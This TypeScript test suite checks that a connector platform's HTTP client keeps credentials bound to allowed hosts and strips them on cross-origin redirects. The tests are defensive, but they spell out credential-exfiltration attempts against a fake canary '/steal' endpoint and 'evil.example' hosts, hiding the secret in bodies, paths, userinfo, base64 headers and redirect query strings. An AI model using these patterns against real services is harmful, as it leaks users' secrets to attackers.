import { FakeThirdParty } from '../testing/fake-third-party';
import { runAction } from '../testing/run-action';
import { AddressPolicy } from './address-policy';
import { Type } from '@sinclair/typebox';
import { applyAuth, type AuthSpec, type Credentials } from './auth';
import { CredentialBoundHttpClient, CredentialHostError, hostAllowed, parseAllowedHosts, parseHostRule, secretForms } from './credential-binding';
import { defineAction, defineConnector } from './definitions';
import { FencedHttpClient, crossesOrigin, type HttpRequest } from './http-client';

const CANARY = 'CANARY-cr3d-8f1e';

/**
 * Hostile tier, class 4 (credentials that must not leave): a recipe steers where a connector
 * sends the connection's credentials; the binding and the redirect rules must keep them home.
 */
describe('credential binding and redirect rules (hostile)', () => {
  const home = new FakeThirdParty();
  const canary = new FakeThirdParty();
  const http = new FencedHttpClient({ policy: new AddressPolicy(['127.0.0.1', '::1']), timeoutMs: 3000 });

  beforeAll(async () => {
    await Promise.all([home.start(), canary.start()]);
    canary.on('*', '/steal', { json: { ok: true } });
    home
      .on('GET', '/ok', { json: { ok: true } })
      .on('GET', '/same-origin', { redirectTo: '/ok' })
      .on('GET', '/away', { redirectTo: `${canary.url}/steal` })
      .on('POST', '/away-307', { status: 307, redirectTo: `${canary.url}/steal` })
      .on('GET', '/away-echo-query', () => ({ redirectTo: `${canary.url}/steal?api_key=${encodeURIComponent(CANARY)}&keep=1` }));
  });

  afterAll(async () => {
    await Promise.all([home.close(), canary.close(), http.close()]);
  });

  const bound = (credentials: Credentials, allowed: string[]) => new CredentialBoundHttpClient(http, credentials, allowed.map(parseHostRule), 'connection conn_test');
  const authed = (credentials: Credentials, req: HttpRequest, spec?: AuthSpec) => applyAuth(req, credentials, spec);
  const canarySaw = () => JSON.stringify(canary.requests);

  it.each<[string, Credentials, AuthSpec | undefined]>([
    ['bearer token', { kind: 'bearer', token: CANARY }, undefined],
    ['basic user:pass (sent base64-encoded)', { kind: 'basic', username: 'u', password: CANARY }, undefined],
    ['api key in a header', { kind: 'api_key', apiKey: CANARY }, { kind: 'api_key', in: 'header', name: 'x-api-key' }],
    ['api key in the query', { kind: 'api_key', apiKey: CANARY }, { kind: 'api_key', in: 'query', name: 'api_key' }],
  ])('a %s is never sent to a host the connection is not bound to', async (_name, credentials, spec) => {
    const before = canary.requests.length;
    const client = bound(credentials, [home.url]);
    await expect(client.request(authed(credentials, { method: 'GET', url: `${canary.url}/steal` }, spec))).rejects.toBeInstanceOf(CredentialHostError);
    expect(canary.requests.length).toBe(before);
    const ok = await client.request(authed(credentials, { method: 'GET', url: `${home.url}/ok` }, spec));
    expect(ok.status).toBe(200);
  });

  it('refuses the secret in a body, a path, userinfo or any encoding of it, to an unbound host', async () => {
    const client = bound({ kind: 'bearer', token: CANARY }, [home.url]);
    const before = canary.requests.length;
    const attempts: HttpRequest[] = [
      { method: 'POST', url: `${canary.url}/steal`, body: { json: { leaked: CANARY } } },
      { method: 'POST', url: `${canary.url}/steal`, body: { form: { leaked: CANARY } } },
      { method: 'GET', url: `${canary.url}/steal/${encodeURIComponent(CANARY)}` },
      { method: 'GET', url: `${canary.url.replace('http://', `http://x:${CANARY}@`)}/steal` },
      { method: 'GET', url: `${canary.url}/steal`, headers: { 'x-anything': Buffer.from(CANARY).toString('base64') } },
      { method: 'GET', url: `${canary.url}/steal`, query: { q: CANARY } },
    ];
    for (const attempt of attempts) await expect(client.request(attempt)).rejects.toBeInstanceOf(CredentialHostError);
    expect(canary.requests.length).toBe(before);
  });

  it('a connection with no declared host sends its credentials nowhere, and says how to fix it', async () => {
    const client = bound({ kind: 'bearer', token: CANARY }, []);
    await expect(client.request({ method: 'GET', url: `${home.url}/ok`, headers: { authorization: `Bearer ${CANARY}` } })).rejects.toThrow(/allowedHosts/);
  });

  it('a request without the credentials may still go anywhere the fence allows', async () => {
    const client = bound({ kind: 'bearer', token: CANARY }, [home.url]);
    expect((await client.request({ method: 'GET', url: `${canary.url}/steal` })).status).toBe(200);
  });

  it('executeAction binds the credentials centrally: a connector taking baseUrl from the recipe cannot send them to the canary', async () => {
    const connector = defineConnector({
      key: 'naive',
      version: '1.0.0',
      displayName: 'Naive',
      auth: [{ kind: 'bearer' }],
      hosts: ['api.naive.example'],
      triggers: [],
      actions: [
        defineAction({
          key: 'get',
          displayName: 'Get',
          input: Type.Object({ baseUrl: Type.String() }),
          output: Type.Unknown(),
          async run(ctx) {
            const token = ctx.credentials.kind === 'bearer' ? ctx.credentials.token : '';
            return (await ctx.http.request({ method: 'GET', url: `${ctx.input.baseUrl}/steal`, headers: { authorization: `Bearer ${token}` } })).body;
          },
        }),
      ],
    });
    const before = canary.requests.length;
    await expect(runAction(connector, 'get', { input: { baseUrl: canary.url }, credentials: { kind: 'bearer', token: CANARY } })).rejects.toThrow(
      /refused to send the credentials .* bound to api\.naive\.example/,
    );
    expect(canary.requests.length).toBe(before);
  });

  it('a redirect to another origin drops Authorization, Cookie and the api-key header', async () => {
    const credentials: Credentials = { kind: 'api_key', apiKey: CANARY };
    const client = bound(credentials, [home.url]);
    const req = authed(
      credentials,
      { method: 'GET', url: `${home.url}/away`, headers: { authorization: `Bearer ${CANARY}`, cookie: `s=${CANARY}` } },
      {
        kind: 'api_key',
        in: 'header',
        name: 'x-partner-key',
      },
    );
    const res = await client.request(req);
    expect(res.status).toBe(200);
    const arrived = canary.requests[canary.requests.length - 1];
    expect(arrived.headers.authorization).toBeUndefined();
    expect(arrived.headers.cookie).toBeUndefined();
    expect(arrived.headers['x-partner-key']).toBeUndefined();
    expect(canarySaw()).not.toContain(CANARY);
  });

  it('a redirect to another origin drops a credential query parameter echoed into Location', async () => {
    const credentials: Credentials = { kind: 'api_key', apiKey: CANARY };
    const client = bound(credentials, [home.url]);
    await client.request(authed(credentials, { method: 'GET', url: `${home.url}/away-echo-query` }, { kind: 'api_key', in: 'query', name: 'api_key' }));
    const arrived = canary.requests[canary.requests.length - 1];
    expect(arrived.query).toEqual({ keep: '1' });
  });

  it('a 307 to another origin does not re-send a body holding the credentials', async () => {
    const before = canary.requests.length;
    const client = bound({ kind: 'bearer', token: CANARY }, [home.url]);
    await expect(client.request({ method: 'POST', url: `${home.url}/away-307`, body: { form: { client_secret: CANARY } } })).rejects.toThrow(/re-send a body/);
    expect(canary.requests.length).toBe(before);
  });

  it('a same-origin redirect keeps the Authorization header', async () => {
    const client = bound({ kind: 'bearer', token: CANARY }, [home.url]);
    await client.request({ method: 'GET', url: `${home.url}/same-origin`, headers: { authorization: `Bearer ${CANARY}` } });
    expect(home.requestsTo('/ok').at(-1)?.headers.authorization).toBe(`Bearer ${CANARY}`);
  });

  it('a redirect from https to http, or to another port or host, crosses origins', () => {
    expect(crossesOrigin(new URL('https://api.stripe.com/v1'), new URL('http://api.stripe.com/v1'))).toBe(true);
    expect(crossesOrigin(new URL('https://api.stripe.com/v1'), new URL('https://api.stripe.com:8443/v1'))).toBe(true);
    expect(crossesOrigin(new URL('https://api.stripe.com/v1'), new URL('https://evil.example/v1'))).toBe(true);
    expect(crossesOrigin(new URL('https://api.stripe.com/v1'), new URL('https://API.stripe.com:443/x'))).toBe(false);
  });
});

describe('host rules', () => {
  it('an entry without http:// binds https only, on the default port; ports and wildcards are exact', () => {
    const rules = parseAllowedHosts('api.stripe.com, *.corp.example http://127.0.0.1:4010');
    expect(hostAllowed(new URL('https://api.stripe.com/v1'), rules)).toBe(true);
    expect(hostAllowed(new URL('http://api.stripe.com/v1'), rules)).toBe(false);
    expect(hostAllowed(new URL('https://api.stripe.com:444/v1'), rules)).toBe(false);
    expect(hostAllowed(new URL('https://api.stripe.com.evil.example/v1'), rules)).toBe(false);
    expect(hostAllowed(new URL('https://git.corp.example/'), rules)).toBe(true);
    expect(hostAllowed(new URL('https://corp.example/'), rules)).toBe(false);
    expect(hostAllowed(new URL('https://evilcorp.example/'), rules)).toBe(false);
    expect(hostAllowed(new URL('http://127.0.0.1:4010/x'), rules)).toBe(true);
    expect(hostAllowed(new URL('http://127.0.0.1:4011/x'), rules)).toBe(false);
  });

  it('refuses entries that are not hosts', () => {
    for (const bad of ['https://a.example/path', 'a b', '*', '*.', 'host:0', 'host:99999', 'user@host']) expect(() => parseHostRule(bad)).toThrow(/allowed host/);
  });

  it('knows every encoding it produces of a secret, short ones included', () => {
    const forms = secretForms({ kind: 'basic', username: 'ann', password: 'p@ss w"d' });
    expect(forms).toEqual(
      expect.arrayContaining([
        'p@ss w"d',
        encodeURIComponent('p@ss w"d'),
        'p%40ss+w%22d',
        'p@ss w\\"d',
        Buffer.from('p@ss w"d').toString('base64'),
        Buffer.from('ann:p@ss w"d').toString('base64'),
        'ann',
      ]),
    );
    expect(secretForms({ kind: 'bearer', token: 'x' })).toContain('x');
  });
});
